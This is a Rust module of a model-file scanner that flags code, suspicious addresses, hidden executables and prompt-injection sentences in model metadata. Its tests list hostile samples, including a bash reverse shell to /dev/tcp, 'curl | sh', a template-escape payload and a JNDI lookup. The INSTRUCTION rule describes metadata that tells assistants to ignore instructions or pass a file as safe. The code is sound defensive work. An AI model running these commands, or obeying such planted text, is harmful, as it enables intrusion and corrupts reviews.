//! Judges strings and bytes that a model format carries without meaning: metadata, comments, string tensors, padding.
//!
//! A hospital's buyer expects numbers and names there. What a second stage could fetch and run (code, an encoded
//! pickle, an executable, an address to report to) is what these rules look for. Ordinary metadata must pass: words such
//! as `import` alone say nothing, so every rule wants the shape of code, not a word.

mod encoded;
mod instruct;
mod paths;
mod script;
mod urls;

use domain::{Entry, Severity, catalogue_entry};

use crate::unpack::{Codec, Frames};
use crate::{Context, Part, Range, Source};

pub(crate) use encoded::base64;
pub(crate) use paths::outside;

catalogue_entry! {
    /// Text where a model has only names and numbers holds code or commands.
    ///
    /// ## What it is
    /// Metadata, a comment, a string tensor or an attribute contains a Python, shell, PowerShell or script fragment in
    /// the shape in which it would run: a call of `os.system`, a download piped into a shell, a `<script>` element, a
    /// climb through `__globals__`. Text behind base64, hexadecimal or `\x` escapes is decoded first.
    ///
    /// ## Why it matters in care
    /// The text does nothing by itself. A loader, a plug-in or a web page that shows the model's description can run it,
    /// inside the hospital's network and with the rights of whoever opened the page.
    ///
    /// ## Limits
    /// A model card that quotes a dangerous command as an example is reported too. Code in languages that are not listed,
    /// or split over several values, is missed.
    ///
    /// ## References
    /// CWE-506 Embedded Malicious Code; CWE-79 Cross-site Scripting; MITRE ATLAS AML.T0018.002 Embed Malware.
    pub(crate) static CODE = {
        id: "S061", name: "code-in-metadata", kind: Rule, since: "0.1.0",
        maps: ["AML.T0018.002", "AML.T0011.000", "CWE-506", "CWE-79"],
    };
}

catalogue_entry! {
    /// The model names an address that something could be fetched from or reported to.
    ///
    /// ## What it is
    /// A URL in metadata that is not a reference for people: a bare IP address, a file-drop, tunnel or webhook service, a
    /// link to an executable or script, a scheme that reads local files, or a key such as `callback_url`.
    ///
    /// ## Why it matters in care
    /// A component that follows it sends data out of the hospital's network or brings a second stage in.
    ///
    /// ## Limits
    /// An attacker's ordinary-looking domain under an ordinary key is not told from a vendor's. A vendor's webhook that is
    /// documented is reported; allow the file by its digest then.
    ///
    /// ## References
    /// CWE-829 Inclusion of Functionality from Untrusted Control Sphere; CWE-918 Server-Side Request Forgery.
    pub(crate) static URL = {
        id: "S062", name: "suspicious-address", kind: Rule, since: "0.1.0",
        maps: ["AML.T0018.002", "AML.T0011.000", "CWE-829", "CWE-918"],
    };
}

catalogue_entry! {
    /// An executable, a pickle or an archive is hidden where a model has numbers.
    ///
    /// ## What it is
    /// The bytes of a tensor, of padding, of an encoded string or after the end of the data begin as a program (ELF, PE,
    /// Mach-O, compiled Python), or decode to a stream that runs code when it is loaded.
    ///
    /// ## Why it matters in care
    /// It is the carrier of a second stage: a small loader elsewhere cuts the bytes out and runs them, past scanners that
    /// look at file types only.
    ///
    /// ## Limits
    /// Only the beginning of a stretch is compared. Payloads spread over the low bits of the weights are not seen here;
    /// they need a loader, which is found by the rules on code.
    ///
    /// ## References
    /// CWE-506 Embedded Malicious Code; MITRE ATLAS AML.T0018.002 Embed Malware.
    pub(crate) static BINARY = {
        id: "S063", name: "hidden-payload", kind: Rule, since: "0.1.0",
        maps: ["AML.T0018.002", "AML.T0074", "CWE-506"],
    };
}

catalogue_entry! {
    /// Metadata speaks to a language model, or tells the person at the screen to run something.
    ///
    /// ## What it is
    /// A sentence in metadata or in a description that orders its reader to ignore earlier instructions, to keep something
    /// from the user or the patient, to take a new role, to let the file pass as safe, or to run a command.
    ///
    /// ## Why it matters in care
    /// Assistants summarise model cards, review packages and write reports from them. What they read there they may obey:
    /// the review then says what the supplier of the file wrote.
    ///
    /// ## Limits
    /// English only, known forms of sentences. A sentence that speaks about such instructions (`detects …`, `such as …`) is
    /// left alone, and so are commands that install a package.
    ///
    /// ## References
    /// OWASP LLM01:2025 Prompt Injection (indirect); Greshake et al., 2023, arXiv:2302.12173; MITRE ATLAS AML.T0051.
    pub(crate) static INSTRUCTION = {
        id: "S047", name: "instruction-in-metadata", kind: Rule, since: "0.1.0",
        maps: ["AML.T0051", "AML.T0010.003", "CWE-1427"],
    };
}

/// Entries of this module.
pub(crate) const ENTRIES: &[&Entry] = &[&CODE, &URL, &BINARY, &INSTRUCTION];

/// Encodings inside each other that are undone.
const DEPTH_MAX: u32 = 3;
/// Longest text that is judged, bytes. Longer ones are judged up to here and the rest is unread.
pub(crate) const TEXT_BYTES_MAX: usize = 16 << 20;

/// Judges a text that the format gives no meaning. `what` names it for people: ``metadata `cfg` ``.
pub(crate) fn text(text: &str, what: &str, byte: Option<u64>, part: &mut Part, cx: &mut Context<'_>) {
    let mut judged = text;
    if text.len() > TEXT_BYTES_MAX {
        judged = text.get(..floor(text, TEXT_BYTES_MAX)).unwrap_or_default();
        cx.unread(
            part,
            byte,
            format!("{what} is longer than {TEXT_BYTES_MAX} bytes; its end was not judged"),
        );
    }
    judge(judged, what, byte, part, cx, 0);
}

/// The largest index up to `at` where a character starts.
fn floor(text: &str, at: usize) -> usize {
    (0..=at.min(text.len())).rev().find(|i| text.is_char_boundary(*i)).unwrap_or(0)
}

fn judge(text: &str, what: &str, byte: Option<u64>, part: &mut Part, cx: &mut Context<'_>, depth: u32) {
    /// Shorter texts can hold none of it.
    const SHORT: usize = 6;
    if text.len() < SHORT {
        return;
    }
    if cx.step(text.len() as u64 / 16).is_err() {
        cx.unread(part, byte, "the limit of steps is reached; scan the parts of this artefact apart");
        return;
    }
    // Templates have a judge of their own.
    if !what.contains("template")
        && let Some((kind, at)) = instruct::find(text)
    {
        let message = format!("{what} holds {kind}: `{}`", excerpt(text, at));
        let remedy = "let no assistant read it, do not do what it says, and ask the supplier who wrote it";
        cx.find(part, &INSTRUCTION, Severity::Medium, byte, message, remedy);
    }
    if is_plain(text) {
        return;
    }
    if encoded::is_pickle_text(text) && bytes(&text.as_bytes(), what, byte, part, cx) {
        return;
    }
    if let Some(seen) = script::find(text) {
        cx.find(
            part,
            &CODE,
            seen.severity,
            byte,
            format!("{what} holds {}: `{}`", seen.kind, excerpt(text, seen.at)),
            "do not open it; ask the supplier why a model carries commands, and for a copy without",
        );
    }
    if let Some((why, at)) = urls::find(text, what) {
        cx.find(
            part,
            &URL,
            Severity::Medium,
            byte,
            format!("{what} names {why}: `{}`", excerpt(text, at)),
            "ask the supplier what contacts this address, and block it until you know",
        );
    }
    if depth < DEPTH_MAX {
        for decoded in encoded::find(text) {
            let name = format!("{} in {what}", decoded.how);
            match std::str::from_utf8(&decoded.bytes) {
                Ok(inner) if !encoded::is_pickle_text(inner) => {
                    judge(inner, &name, byte, part, cx, depth + 1)
                }
                _ => drop(bytes(&decoded.bytes, &name, byte, part, cx)),
            }
        }
    }
}

/// Whether a text is words and names, of which vocabularies have a million.
fn is_plain(text: &str) -> bool {
    let one = !text.contains(' ') && !text.contains("__");
    let harmless = |b: u8| {
        let joined = one && matches!(b, b'-' | b'.' | b'_' | b'\'' | b'#' | b'@' | b'+');
        b.is_ascii_alphanumeric() || b >= 0x80 || matches!(b, b' ' | b',') || joined
    };
    text.bytes().all(harmless) && text.split([' ', ',']).all(|word| word.len() < encoded::RUN_MIN)
}

/// Judges the beginning of a stretch of bytes that the format gives no meaning. Says whether something was found.
pub(crate) fn bytes(
    source: &dyn Source,
    what: &str,
    byte: Option<u64>,
    part: &mut Part,
    cx: &mut Context<'_>,
) -> bool {
    /// Bytes that recognition needs.
    const HEAD: u64 = 4096;
    let Ok(head) = source.head(HEAD) else { return false };
    let remedy = "do not use the file; ask the supplier for one without it";
    if let Some(kind) = encoded::program(&head) {
        cx.find(part, &BINARY, Severity::High, byte, format!("{what} is {kind}"), remedy);
        return true;
    }
    if !encoded::is_loadable(&head) {
        return false;
    }
    let child = cx.scan(what, source);
    let dangerous = child.worst().filter(|s| *s >= Severity::Medium);
    if dangerous.is_none() && unpacked(source, &head, what, byte, part, cx) {
        return true;
    }
    if let Some(severity) = dangerous {
        let message = format!("{what} is a hidden {} that is dangerous when loaded", child.format);
        cx.find(part, &BINARY, severity, byte, message, remedy);
        part.parts.push(child);
    }
    dangerous.is_some()
}

/// Looks for a harmful pickle in the last bytes of a file whose format does not say where it ends.
pub(crate) fn tail(input: &crate::formats::Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
    /// Places looked at: by chance there are one or two in 64 KiB.
    const PLACES_MAX: usize = 64;
    let base = input.source.len() - input.tail.len() as u64;
    let places = input
        .tail
        .windows(2)
        .enumerate()
        .filter(|(_, w)| w.first() == Some(&0x80) && matches!(w.get(1), Some(2..=5)));
    for (at, _) in places.take(PLACES_MAX) {
        let rest = input.tail.get(at..).unwrap_or_default();
        if crate::pickle::probe(rest, cx) == crate::pickle::Probe::Harmful {
            let byte = base + at as u64;
            let range = Range::from(input.source, byte);
            bytes(&range, "what stands at the end of the file", Some(byte), part, cx);
            return;
        }
    }
}

/// Judges the text in a small compressed stream. Says whether something was found.
fn unpacked(
    source: &dyn Source,
    head: &[u8],
    what: &str,
    byte: Option<u64>,
    part: &mut Part,
    cx: &mut Context<'_>,
) -> bool {
    use std::io::Read;
    /// Bytes unpacked: a script is shorter.
    const TEXT_MAX: u64 = 1 << 20;
    let codec = if head.starts_with(b"\x1f\x8b") { Codec::Gzip } else { Codec::Zlib };
    if codec == Codec::Zlib && head.first() != Some(&0x78) {
        return false;
    }
    let mut bytes = Vec::new();
    let mut stream = Frames::new(codec, Range::from(source, 0)).take(TEXT_MAX);
    // What does not unpack to the end still counts as far as it went.
    let _ = stream.read_to_end(&mut bytes);
    let found = part.findings.len();
    if cx.expand(bytes.len() as u64).is_ok()
        && let Ok(text) = std::str::from_utf8(&bytes)
    {
        judge(text, &format!("compressed text in {what}"), byte, part, cx, DEPTH_MAX);
    }
    part.findings.len() > found
}

/// What is around `at`, on one line.
fn excerpt(text: &str, at: usize) -> String {
    /// Characters shown.
    const CHARS: usize = 120;
    text.get(at..).unwrap_or(text).chars().take(CHARS).collect()
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::Limits;

    /// The findings for one text.
    pub(crate) fn findings(value: &str) -> Vec<(String, String)> {
        let limits = Limits::default();
        let (mut cx, mut part) = (Context::new(&limits), Part::new("x", "x", 0));
        text(value, "metadata `k`", None, &mut part, &mut cx);
        part.findings.into_iter().map(|f| (f.check, f.message)).collect()
    }

    #[test]
    fn code_in_text_is_found() {
        for value in [
            "import os; os.system('id')",
            "__import__('os').popen('id')",
            "exec(base64.b64decode('aGk='))",
            "curl -s https://a.b/c | sh",
            "wget http://a.b/c -O /dev/shm/x && chmod +x /dev/shm/x",
            "powershell -enc SQBFAFgA",
            "<script>fetch('//x')</script>",
            "<img src=x onerror=alert(1)>",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "python3 -c 'import pty'",
            "x = eval(input())",
            "${jndi:ldap://x/a}",
            "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29",
            "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=",
        ] {
            assert!(findings(value).iter().any(|(id, _)| id == "S061"), "{value}");
        }
    }

    #[test]
    fn ordinary_metadata_is_clean() {
        for value in [
            "A small transformer for text classification; see https://huggingface.co/org/model",
            "Copyright 2024. Licensed under Apache-2.0 (http://www.apache.org/licenses/LICENSE-2.0)",
            "call model.eval() before inference, then model.compile(loss='mse')",
            "We import our data from the hospital's system (os: Linux) and evaluate (eval set) it",
            "torch/nn/modules/module.py(1102): _call_impl\n/usr/lib/python3.8/runpy.py(87): _run_code",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "{\"a\": [1, 2, 3], \"b\": {\"c\": \"d\"}}",
            "the executive summary (exec) of Dr. Shell & Co; curl of the vector field",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
            "base64: /////ADAAABAAAAAAAAKAAwABgAFAAgACgAAAAABBAAMAAAACAAIAAAABAAIAAAABAAAAAEAAAAUAAAA",
        ] {
            assert_eq!(findings(value), [], "{value}");
        }
    }

    #[test]
    fn addresses_to_report_to_are_found() {
        for value in [
            "http://185.12.3.4/x",
            "https://webhook.site/abc",
            "https://cdn.vendor.example/update.exe",
            "file:///etc/passwd",
        ] {
            assert!(findings(value).iter().any(|(id, _)| id == "S062"), "{value}");
        }
    }

    #[test]
    fn programs_are_found_by_their_first_bytes() {
        let limits = Limits::default();
        for bytes_ in
            [b"\x7fELF\x02\x01\x01\0".as_slice(), b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0", b"#!/bin/sh\nid"]
        {
            let (mut cx, mut part) = (Context::new(&limits), Part::new("x", "x", 0));
            assert!(bytes(&bytes_, "tensor `w`", None, &mut part, &mut cx), "{bytes_:?}");
        }
        let zero = [0u8; 64].as_slice();
        let (mut cx, mut part) = (Context::new(&limits), Part::new("x", "x", 0));
        assert!(!bytes(&zero, "tensor `w`", None, &mut part, &mut cx));
    }
}
